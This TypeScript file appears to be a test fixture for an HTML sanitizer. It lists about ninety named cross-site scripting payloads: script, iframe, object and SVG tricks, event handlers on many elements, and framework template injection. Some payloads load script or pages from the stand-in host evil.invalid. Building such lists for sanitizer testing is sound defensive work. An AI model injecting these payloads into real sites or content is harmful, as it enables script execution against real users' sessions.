/** Hostile HTML that runs script: elements that carry it and handlers on all sorts of elements. */
import type { HostileHtml } from './hostileHtml';

const ELEMENTS: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'a script in capitals': '<SCRIPT>alert(1)</SCRIPT>',
  'a script from elsewhere': '<script src="https://evil.invalid/x.js"></script>',
  'a script with an odd end': '<script>alert(1)</script foo="bar">',
  'a script cut in two': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script without an end': '<p>ahoy</p><script>alert(1)',
  'a script with a slash': '<script/x>alert(1)</script>',
  'a module': '<script type="module">import "https://evil.invalid/m.js"</script>',
  'an import map':
    '<script type="importmap">{"imports":{"vue":"https://evil.invalid/v.js"}}</script>',
  'a script in a drawing': '<svg><script>alert(1)</script></svg>',
  'a script in a drawing by reference': '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  'a script in a formula': '<math><mtext><script>alert(1)</script></mtext></math>',
  'a script in a template': '<template><script>alert(1)</script></template>',
  'a script in a shadow':
    '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
  'a frame with a document':
    '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
  'a frame with a script': '<iframe src="javascript:alert(1)"></iframe>',
  'a frame with data':
    '<iframe src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  'a frame of the page itself': '<iframe src="/" onload="alert(1)"></iframe>',
  'a frameset': '<frameset onload="alert(1)"><frame src="javascript:alert(1)"></frameset>',
  'an object': '<object data="javascript:alert(1)"></object>',
  'an object with data':
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  'an embedded thing': '<embed src="javascript:alert(1)">',
  'an embedded drawing':
    '<embed src="data:image/svg+xml,%3Csvg onload=alert(1)%3E" type="image/svg+xml">',
  'an applet': '<applet code="Evil.class" archive="https://evil.invalid/e.jar"></applet>',
  'a portal': '<portal src="https://evil.invalid/"></portal>',
  'a base': '<base href="https://evil.invalid/"><a href="login">sign in</a>',
  'a jump by meta': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'a policy by meta': '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  'a link to styles': '<link rel="stylesheet" href="https://evil.invalid/x.css">',
  'a link to an import': '<link rel="import" href="https://evil.invalid/x.html">',
  'a preload': '<link rel="preload" as="script" href="https://evil.invalid/x.js">',
  'a handler in a frame by name':
    '<iframe name="alert(1)" src="about:blank" onload="eval(name)"></iframe>',
  'an isindex': '<isindex type="image" src="x" onerror="alert(1)">',
  'a keygen': '<keygen autofocus onfocus="alert(1)">',
  'a processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?><p>ahoy</p>',
  'a custom element': '<x-boat onclick="alert(1)" is="v-evil">row</x-boat>',
  'a noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'a plaintext': '<plaintext><img src=x onerror=alert(1)>',
  'a foreign body': '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  'a used drawing': '<svg><use href="data:image/svg+xml,%3Csvg id=x onload=alert(1)/%3E#x"/></svg>',
  'a drawing that changes a link':
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">row</text></a></svg>',
  'a drawing that sets a link':
    '<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"/><text y="20">row</text></a></svg>',
  'a drawing that sets a handler': '<svg><set attributeName="onclick" to="alert(1)"/></svg>',
};

/** Handlers, each on the element and with the attributes that would fire it soonest. */
const HANDLERS: Record<string, string> = {
  'a picture that fails': '<img src=x onerror=alert(1)>',
  'a picture in capitals': '<IMG SRC=x ONERROR="alert(1)">',
  'a picture with slashes for spaces': '<img/src=x/onerror=alert(1)>',
  'a picture with a new line before the sign': '<img src=x onerror\n=\nalert(1)>',
  'a picture with a form feed': '<img\fsrc=x\fonerror=alert(1)>',
  'a picture with backticks': '<img src=x onerror=`alert(1)`>',
  'a picture with references in the handler': '<img src=x onerror="&#97;&#108;ert(1)">',
  'a picture with two handlers': '<img src=x onerror=alert(1) onerror=alert(2)>',
  'a picture with a null in the name': '<img src=x on\u0000error=alert(1)>',
  'a picture that loads': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=alert(1)>',
  'a picture set by srcset': '<img srcset="x 1x" onerror=alert(1)>',
  'a picture with a quote in its words': '<img alt="x" title=""onerror=alert(1)//" src=x>',
  'the emoji class with a handler':
    '<img class="emoji" alt=":sail:" src="x" onerror="alert(1)" title="sail">',
  'a preview with a handler':
    '<div class="message_inline_image"><a href="/user_uploads/a.png" onclick="alert(1)"><img src=x onerror=alert(1)></a></div>',
  'a mention with a handler':
    '<span class="user-mention" data-user-id="7" onmouseover="alert(1)">@Mara</span>',
  'a spoiler with a handler':
    '<div class="spoiler-block" onclick="alert(1)"><div class="spoiler-header"></div><div class="spoiler-content"><p>x</p></div></div>',
  'a code block with a handler':
    '<div class="codehilite" onwheel="alert(1)"><pre><span></span><code>x</code></pre></div>',
  'a time with a handler':
    '<time datetime="2026-01-01T00:00:00Z" onfocus="alert(1)" tabindex="0" autofocus>now</time>',
  'a formula with a handler':
    '<span class="katex"><span class="katex-html" onclick="alert(1)"><span class="mord" onmouseover="alert(1)">x</span></span></span>',
  'a drawing that loads': '<svg onload=alert(1)>',
  'a drawing in a formula that loads':
    '<span class="katex"><svg onload=alert(1)><path onbegin=alert(1) d="M0 0"/></svg></span>',
  'an animation that begins': '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  'a body': '<body onload=alert(1)><p>ahoy</p></body>',
  'a page': '<html onpageshow=alert(1)><p>ahoy</p></html>',
  'details that open': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'a film without a source': '<video><source onerror=alert(1)></video>',
  'a film with a handler':
    '<div class="message_inline_video"><a href="/user_uploads/a.mp4"><video src=x onerror=alert(1)></video></a></div>',
  'a sound with a handler': '<audio src=x onerror=alert(1) controls></audio>',
  'a track': '<video controls><track default src=x oncuechange=alert(1)></video>',
  'a field that takes focus': '<input autofocus onfocus=alert(1)>',
  'a choice that takes focus': '<select autofocus onfocus=alert(1)></select>',
  'a text area': '<textarea autofocus onfocus=alert(1)></textarea>',
  'a button': '<button onclick=alert(1)>row</button>',
  'a paragraph that takes focus': '<p tabindex=0 autofocus onfocus=alert(1)>x</p>',
  'a marquee': '<marquee onstart=alert(1)>x</marquee>',
  'a dialog':
    '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  'a popover':
    '<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>open</button>',
  'a transition': '<p style="transition:outline 1s" ontransitionend=alert(1) tabindex=1>x</p>',
  'an animation of styles':
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>',
  'a scroll':
    '<div style="overflow:auto;height:9px" onscroll=alert(1)><br><br><br><i id=x>x</i></div>',
  'a pointer': '<p onpointerenter=alert(1)>x</p>',
  'a paste': '<p contenteditable onpaste=alert(1) oninput=alert(1)>x</p>',
  'content that becomes visible':
    '<p style="content-visibility:auto" oncontentvisibilityautostatechange=alert(1)>x</p>',
  'a template attribute of a framework':
    '<p v-html="alert(1)" @click="alert(1)" :onclick="alert(1)" x-on:click="alert(1)" ng-click="alert(1)">{{ constructor.constructor("alert(1)")() }}</p>',
};

/** All of them. */
export const hostileScripts: HostileHtml[] = [
  ...Object.entries(ELEMENTS),
  ...Object.entries(HANDLERS).map(([name, html]): [string, string] => [
    `a handler on ${name}`,
    html,
  ]),
].map(([name, html]) => ({ name, html }));
